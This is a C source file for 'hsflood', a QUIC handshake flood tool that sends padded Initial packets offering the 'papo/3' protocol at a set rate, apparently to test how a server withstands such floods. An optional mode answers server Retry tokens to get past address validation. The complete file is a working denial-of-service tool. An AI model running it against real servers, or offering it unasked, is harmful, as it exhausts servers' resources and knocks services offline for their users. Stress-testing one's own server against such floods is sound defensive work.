/*
 * hsflood: a QUIC handshake flood, as an attacker without any credential
 * sends it.  Usage: hsflood HOST PORT RATE SECONDS [retry].
 *
 * It prepares RATE * SECONDS real first datagrams of a papo dial (a QUIC
 * Initial carrying a TLS ClientHello that offers papo/3, padded to 1200
 * bytes), each under fresh connection ids so that each would open a
 * connection of its own, then sends them to HOST:PORT at RATE a second
 * for SECONDS, from one socket, and never reads an answer: a Retry goes
 * unanswered, as it would for a spoofed source.
 *
 * With "retry", the attacker receives at its address: each dial is made
 * as it is sent and kept, and a Retry that comes back is answered with
 * the dial's next Initial, token included, so that the server must take
 * the handshake on; nothing after that is answered.  Prints what it
 * sent (and how many Retries it answered).
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <gnutls/crypto.h>
#include <gnutls/gnutls.h>
#include <ngtcp2/ngtcp2.h>
#include <ngtcp2/ngtcp2_crypto.h>
#include <ngtcp2/ngtcp2_crypto_gnutls.h>

#define PKT_MAX 1452

static const char priority[] =
    "NORMAL:-VERS-ALL:+VERS-TLS1.3:-CIPHER-ALL:+AES-128-GCM:+AES-256-GCM:"
    "+CHACHA20-POLY1305:-GROUP-ALL:+GROUP-X25519:+GROUP-SECP256R1:"
    "%DISABLE_TLS13_COMPAT_MODE";

struct dial {
	ngtcp2_conn *conn;
	gnutls_session_t tls;
	ngtcp2_crypto_conn_ref ref;
	ngtcp2_cid scid;
};

/* The dials kept for their Retry (the last RING made). */
#define RING 4096

static uint64_t
now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000u + (uint64_t)ts.tv_nsec;
}

static void
cb_rand(uint8_t *dest, size_t len, const ngtcp2_rand_ctx *ctx)
{
	(void)ctx;
	gnutls_rnd(GNUTLS_RND_NONCE, dest, len);
}

static int
cb_new_cid(ngtcp2_conn *conn, ngtcp2_cid *cid, uint8_t *token, size_t cidlen,
    void *user)
{
	(void)conn;
	(void)user;
	gnutls_rnd(GNUTLS_RND_NONCE, cid->data, cidlen);
	cid->datalen = cidlen;
	gnutls_rnd(GNUTLS_RND_NONCE, token, NGTCP2_STATELESS_RESET_TOKENLEN);
	return 0;
}

static ngtcp2_conn *
get_conn(ngtcp2_crypto_conn_ref *ref)
{
	return ((struct dial *)ref->user_data)->conn;
}

static void
dial_free(struct dial *d)
{
	if (d == NULL)
		return;
	if (d->conn != NULL)
		ngtcp2_conn_del(d->conn);
	if (d->tls != NULL)
		gnutls_deinit(d->tls);
	free(d);
}

/* A dial from local to remote; its first datagram in out, its length in
 * *n.  NULL when it cannot be made. */
static struct dial *
dial_new(gnutls_certificate_credentials_t cred, const ngtcp2_path *path,
    uint8_t *out, size_t cap, size_t *n)
{
	static const gnutls_datum_t alpn = { (unsigned char *)"papo/3", 6 };
	ngtcp2_callbacks cb;
	ngtcp2_settings st;
	ngtcp2_transport_params tp;
	ngtcp2_cid dcid;
	ngtcp2_path_storage ps;
	ngtcp2_pkt_info pi;
	struct dial *d = calloc(1, sizeof(*d));
	ngtcp2_ssize w;

	if (d == NULL)
		return NULL;
	memset(&cb, 0, sizeof(cb));
	cb.client_initial = ngtcp2_crypto_client_initial_cb;
	cb.recv_retry = ngtcp2_crypto_recv_retry_cb;
	cb.recv_crypto_data = ngtcp2_crypto_recv_crypto_data_cb;
	cb.encrypt = ngtcp2_crypto_encrypt_cb;
	cb.decrypt = ngtcp2_crypto_decrypt_cb;
	cb.hp_mask = ngtcp2_crypto_hp_mask_cb;
	cb.update_key = ngtcp2_crypto_update_key_cb;
	cb.delete_crypto_aead_ctx = ngtcp2_crypto_delete_crypto_aead_ctx_cb;
	cb.delete_crypto_cipher_ctx = ngtcp2_crypto_delete_crypto_cipher_ctx_cb;
	cb.get_path_challenge_data = ngtcp2_crypto_get_path_challenge_data_cb;
	cb.version_negotiation = ngtcp2_crypto_version_negotiation_cb;
	cb.rand = cb_rand;
	cb.get_new_connection_id = cb_new_cid;
	ngtcp2_settings_default(&st);
	st.initial_ts = now_ns();
	ngtcp2_transport_params_default(&tp);
	tp.initial_max_streams_uni = 1;
	tp.initial_max_stream_data_uni = 1024 * 1024;
	tp.initial_max_data = 4 * 1024 * 1024;
	dcid.datalen = d->scid.datalen = 16;
	gnutls_rnd(GNUTLS_RND_NONCE, dcid.data, dcid.datalen);
	gnutls_rnd(GNUTLS_RND_NONCE, d->scid.data, d->scid.datalen);
	d->ref.get_conn = get_conn;
	d->ref.user_data = d;
	if (gnutls_init(&d->tls, GNUTLS_CLIENT) < 0) {
		d->tls = NULL;
		goto fail;
	}
	if (ngtcp2_crypto_gnutls_configure_client_session(d->tls) != 0 ||
	    gnutls_priority_set_direct(d->tls, priority, NULL) < 0 ||
	    gnutls_credentials_set(d->tls, GNUTLS_CRD_CERTIFICATE, cred) < 0 ||
	    gnutls_alpn_set_protocols(d->tls, &alpn, 1, GNUTLS_ALPN_MANDATORY) < 0)
		goto fail;
	gnutls_session_set_ptr(d->tls, &d->ref);
	if (ngtcp2_conn_client_new(&d->conn, &dcid, &d->scid, path,
	    NGTCP2_PROTO_VER_V1, &cb, &st, &tp, NULL, d) != 0) {
		d->conn = NULL;
		goto fail;
	}
	ngtcp2_conn_set_tls_native_handle(d->conn, d->tls);
	ngtcp2_path_storage_zero(&ps);
	w = ngtcp2_conn_write_pkt(d->conn, &ps.path, &pi, out, cap, now_ns());
	if (w <= 0)
		goto fail;
	*n = (size_t)w;
	return d;
fail:
	dial_free(d);
	return NULL;
}

/* A Retry to one of the kept dials: its next Initial goes out. */
static int
answer_retry(int fd, struct dial **ring, const ngtcp2_path *path,
    const uint8_t *pkt, size_t n)
{
	ngtcp2_version_cid vc;
	ngtcp2_path_storage ps;
	ngtcp2_pkt_info pi;
	uint8_t out[PKT_MAX];
	ngtcp2_ssize w;

	/* A long header of type Retry (QUIC v1: 0b1111xxxx); the rest of
	 * what comes back (a server's Initial) is not answered. */
	if (n == 0 || (pkt[0] & 0xf0) != 0xf0 ||
	    ngtcp2_pkt_decode_version_cid(&vc, pkt, n, 16) != 0)
		return 0;
	memset(&pi, 0, sizeof(pi));
	for (size_t i = 0; i < RING; i++) {
		struct dial *d = ring[i];

		if (d == NULL || d->scid.datalen != vc.dcidlen ||
		    memcmp(d->scid.data, vc.dcid, vc.dcidlen) != 0)
			continue;
		ngtcp2_conn_read_pkt(d->conn, path, &pi, pkt, n, now_ns());
		ngtcp2_path_storage_zero(&ps);
		w = ngtcp2_conn_write_pkt(d->conn, &ps.path, &pi, out,
		    sizeof(out), now_ns());
		ring[i] = NULL;
		dial_free(d);
		return w > 0 && send(fd, out, (size_t)w, 0) == w;
	}
	return 0;
}

int
main(int argc, char **argv)
{
	struct sockaddr_in to, local;
	socklen_t locallen = sizeof(local);
	gnutls_certificate_credentials_t cred;
	ngtcp2_path path;
	uint8_t *pool = NULL, pkt[65536];
	size_t *len = NULL;
	struct dial **ring = NULL;
	long rate, secs, total, sent = 0, failed = 0, answered = 0, head = 0;
	int fd, retry;
	uint64_t t0;

	if (argc < 5 || argc > 6 || (rate = atol(argv[3])) <= 0 ||
	    (secs = atol(argv[4])) <= 0 ||
	    (argc == 6 && strcmp(argv[5], "retry") != 0)) {
		fprintf(stderr, "usage: hsflood HOST PORT RATE SECONDS [retry]\n");
		return 2;
	}
	retry = argc == 6;
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	to.sin_port = htons((uint16_t)atoi(argv[2]));
	if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
		fprintf(stderr, "hsflood: %s is not an IPv4 address\n", argv[1]);
		return 2;
	}
	if ((fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0)) == -1 ||
	    connect(fd, (struct sockaddr *)&to, sizeof(to)) == -1 ||
	    getsockname(fd, (struct sockaddr *)&local, &locallen) == -1) {
		perror("hsflood: socket");
		return 1;
	}
	if (gnutls_certificate_allocate_credentials(&cred) < 0)
		return 1;
	path.local.addr = (ngtcp2_sockaddr *)&local;
	path.local.addrlen = locallen;
	path.remote.addr = (ngtcp2_sockaddr *)&to;
	path.remote.addrlen = sizeof(to);
	path.user_data = NULL;
	total = rate * secs;
	if (retry) {
		if ((ring = calloc(RING, sizeof(*ring))) == NULL)
			return 1;
	} else {
		/* Made before, so that the rate is the sending's alone. */
		pool = malloc((size_t)total * PKT_MAX);
		len = malloc((size_t)total * sizeof(*len));
		if (pool == NULL || len == NULL)
			return 1;
		for (long i = 0; i < total; i++) {
			struct dial *d = dial_new(cred, &path,
			    pool + (size_t)i * PKT_MAX, PKT_MAX, &len[i]);

			if (d == NULL) {
				fprintf(stderr, "hsflood: cannot make an Initial\n");
				return 1;
			}
			dial_free(d);
		}
	}
	/* RATE a second, in bursts every millisecond or so. */
	t0 = now_ns();
	while (sent + failed < total) {
		uint64_t el = now_ns() - t0;
		long due = (long)((double)el / 1e9 * (double)rate);
		ssize_t r;

		if (due > total)
			due = total;
		while (sent + failed < due) {
			long i = sent + failed;
			uint8_t one[PKT_MAX], *p = one;
			size_t n = 0;

			if (retry) {
				struct dial *d = dial_new(cred, &path, one,
				    sizeof(one), &n);

				if (d == NULL) {
					failed++;
					continue;
				}
				dial_free(ring[head]);
				ring[head] = d;
				head = (head + 1) % RING;
			} else {
				p = pool + (size_t)i * PKT_MAX;
				n = len[i];
			}
			if (send(fd, p, n, 0) == (ssize_t)n)
				sent++;
			else
				failed++;
		}
		while (retry && (r = recv(fd, pkt, sizeof(pkt), 0)) > 0)
			answered += answer_retry(fd, ring, &path, pkt, (size_t)r);
		usleep(1000);
	}
	printf("sent %ld Initials (%ld failed) in %.1f s", sent, failed,
	    (double)(now_ns() - t0) / 1e9);
	if (retry)
		printf(", answered %ld Retries", answered);
	printf("\n");
	for (long i = 0; ring != NULL && i < RING; i++)
		dial_free(ring[i]);
	free(ring);
	free(pool);
	free(len);
	gnutls_certificate_free_credentials(cred);
	close(fd);
	return 0;
}
